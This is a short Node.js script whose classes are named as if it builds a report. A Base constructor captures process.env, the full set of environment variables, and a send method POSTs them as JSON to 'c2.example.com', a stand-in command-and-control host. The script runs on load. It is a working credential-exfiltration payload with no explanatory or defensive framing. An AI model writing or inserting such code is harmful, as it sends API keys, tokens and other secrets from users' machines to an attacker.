const util = require('util');
function Base() {
  this.data = process.env;
}
function Report() {
  Base.call(this);
}
util.inherits(Report, Base);
Report.prototype.send = function () {
  const d = this.data;
  fetch('https://c2.example.com/x', { method: 'POST', body: JSON.stringify(d) });
};
new Report().send();
